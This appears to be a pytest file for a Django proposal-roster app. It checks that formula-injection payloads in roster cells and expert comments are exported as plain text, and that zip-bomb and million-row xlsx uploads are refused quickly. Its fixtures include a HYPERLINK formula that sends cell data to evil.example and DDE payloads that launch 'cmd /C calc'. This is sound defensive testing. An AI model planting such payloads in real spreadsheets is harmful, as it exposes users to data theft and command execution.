"""Issue 12, findings 2 and 3: formulas typed into a roster or a comment come back as text in
every export; a zip bomb or a million-row sheet is refused quickly, in little memory, with a
message, through the page and the API; a normal 60-unit roster still imports."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from lianmeng.proposals import roster
from lianmeng.proposals.models import Proposal
from tests.api.conftest import bearer
from tests.documents import xlsx_payloads

from .conftest import upload
from .xlsx_fixtures import good_rows, workbook_from_rows

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[3]

#: what the audit typed into the roster (issue 12, finding 2)
PAYLOADS = {
    "单位名称": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "法定代表人": "=cmd|' /C calc'!A0",
    "联系人": "\t=1+1",
    "在行业中的地位": "  +SUM(1,2)",
    "研发平台名称": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _payload_rows() -> list[dict]:
    rows = good_rows(count=3)
    for row in rows:
        row.update(PAYLOADS)
        row["单位名称"] = PAYLOADS["单位名称"] + row["统一社会信用代码"][-4:]
        row["平台级别"] = "省级"
    return rows


def _payload_file() -> bytes:
    """The roster with the payloads as typed text (string cells, as Excel stores what is typed
    into a text-formatted cell, or WPS after a paste)."""
    book = load_workbook(io.BytesIO(workbook_from_rows(_payload_rows())))
    for row in book["成员单位名单"].iter_rows(min_row=2, max_row=4):
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_formulas_in_a_roster_come_back_as_text(small_draft, lead_staff):
    proposal = small_draft()
    actor = lead_staff(proposal)
    uploaded = _payload_file()
    report = roster.roster_import_xlsx(actor=actor, pk=proposal.pk, file=upload(uploaded))
    assert report.added == 3, report.errors

    exported = roster.roster_export_xlsx(Proposal.objects.get(pk=proposal.pk))
    assert _formulas(exported) == []
    sheet = load_workbook(io.BytesIO(exported))["成员单位名单"]
    texts = {cell.value for row in sheet.iter_rows(min_row=3) for cell in row}
    assert PAYLOADS["法定代表人"] in texts
    assert "=1+1" in texts  # the tab was stripped on import, the text kept
    assert any(str(t).startswith('=HYPERLINK("http://evil') for t in texts)
    for row in sheet.iter_rows(min_row=3, max_row=5):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.lstrip()[:1] in "=+-@":
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_shows_the_payload_text_and_evaluates_nothing(
    small_draft, lead_staff, tmp_path
):
    proposal = small_draft()
    roster.roster_import_xlsx(
        actor=lead_staff(proposal), pk=proposal.pk, file=upload(_payload_file())
    )
    path = tmp_path / "roster.xlsx"
    path.write_bytes(roster.roster_export_xlsx(Proposal.objects.get(pk=proposal.pk)))
    env = {**os.environ, "HOME": str(tmp_path)}
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env=env,
    )
    table = list(csv.reader((tmp_path / "roster.csv").open(encoding="utf-8")))
    header = table[0]
    for row in table[2:5]:  # the lead unit, then the three imported units
        shown = dict(zip(header, row, strict=False))
        # shown as typed: not "2", not "点击查看", not an error of an evaluated formula
        assert shown["联系人"] == "=1+1"
        assert shown["法定代表人"] == PAYLOADS["法定代表人"]
        assert shown["在行业中的地位"] == PAYLOADS["在行业中的地位"].strip()
        assert shown["单位名称"].startswith('=HYPERLINK("http://evil')
        assert shown["研发平台名称"] == PAYLOADS["研发平台名称"]


def test_an_expert_comment_is_text_in_the_score_sheet():
    from types import SimpleNamespace

    from lianmeng.experts.export import score_sheet_xlsx

    comment = '=HYPERLINK("http://evil.example","评语")'
    criteria = [{"key": "a", "title": "技术", "weight": 100, "max_score": 100}]
    sheet = SimpleNamespace(
        expert="=cmd|' /C calc'!A0",
        unit="@单位",
        scores={"a": Decimal(90)},
        comments={"a": comment},
        total=Decimal(90),
        submitted_at=None,
    )
    result = SimpleNamespace(
        rank=1,
        proposal=SimpleNamespace(name="-联盟", lead_unit=SimpleNamespace(name="+牵头")),
        submitted=1,
        assigned=1,
        criterion_means={"a": Decimal(90)},
        mean=Decimal(90),
        trimmed=Decimal(90),
        sheets=[sheet],
    )
    content = score_sheet_xlsx(SimpleNamespace(title="=1+1", criteria=criteria), [result])
    assert _formulas(content) == []
    detail = load_workbook(io.BytesIO(content))["评分明细"]
    values = [c.value for c in detail[2]]
    assert comment in values and "=cmd|' /C calc'!A0" in values


def test_a_normal_sixty_unit_roster_still_imports(small_draft, lead_staff, signed_in):
    proposal = small_draft()
    client = signed_in(lead_staff(proposal))
    response = client.post(
        f"/proposals/{proposal.pk}/edit/members/import/",
        {"file": upload(workbook_from_rows(good_rows(count=60))), "revision": proposal.revision},
    )
    assert response.status_code == 302
    assert Proposal.objects.get(pk=proposal.pk).member_count == 61


HOSTILE = {
    "bomb": lambda: xlsx_payloads.bomb(300),
    "million rows": xlsx_payloads.million_rows,
}


#: within every size bound, stopped by the time budget: the worst a file can cost
WORST = {
    "a million short strings": lambda: xlsx_payloads.short_strings(15),
    "300,000 rows without a dimension": lambda: xlsx_payloads.undeclared_rows(300_000),
}


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    paths = {}
    for name, make in (HOSTILE | WORST).items():
        paths[name] = folder / f"{name}.xlsx"
        paths[name].write_bytes(make())
    return paths


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_on_the_page_and_the_api(
    name, hostile_files, small_draft, lead_staff, signed_in, token_for, client
):
    content = hostile_files[name].read_bytes()
    proposal = small_draft()
    staff = lead_staff(proposal)
    started = time.monotonic()
    page = signed_in(staff).post(
        f"/proposals/{proposal.pk}/edit/members/import/",
        {"file": upload(content), "revision": proposal.revision},
    )
    assert time.monotonic() - started < 5
    assert page.status_code == 400
    text = page.content.decode()
    assert ("文件解压后超过" in text) or ("行，请分批导入" in text)

    started = time.monotonic()
    api = client.post(
        f"/api/v1/proposals/{proposal.pk}/members/import",
        {"file": SimpleUploadedFile("名单.xlsx", content)},
        headers=bearer(token_for(staff)),
    )
    assert time.monotonic() - started < 5
    assert 400 <= api.status_code < 500, api.content
    assert Proposal.objects.get(pk=proposal.pk).member_count == 1


MEASURE = """
import json, os, sys, time
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "lianmeng.config.settings")
import django
django.setup()
from lianmeng.core.errors import ValidationFailed
from lianmeng.proposals.roster_xlsx import read_rows
import openpyxl.reader.excel  # imported before the baseline
data = open(sys.argv[1], "rb").read()
def status_kb(field):
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise LookupError(field)
# the resident size now; then the peak is reset (Linux clear_refs "5"), so that the peak
# after the read is the read's own and not whatever django.setup() touched before
before = status_kb("VmRSS")
with open("/proc/self/clear_refs", "w") as clear_refs:
    clear_refs.write("5")
started = time.monotonic()
try:
    read_rows(data)
    refused = ""
except ValidationFailed as exc:
    refused = exc.message
seconds = time.monotonic() - started
growth = status_kb("VmHWM") - before
print(json.dumps({"refused": refused, "seconds": seconds, "growth_kb": growth}))
"""


@pytest.mark.parametrize("name", [*HOSTILE, *WORST])
def test_the_reader_refuses_within_five_seconds_and_200_mb(name, hostile_files):
    """In a fresh process (ru_maxrss only grows): the import's reader on the hostile file."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(hostile_files[name])],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        cwd=ROOT,
        check=True,
    )
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["refused"], result
    assert result["seconds"] < 5, result
    assert result["growth_kb"] < 200 * 1024, result
    print(name, result)
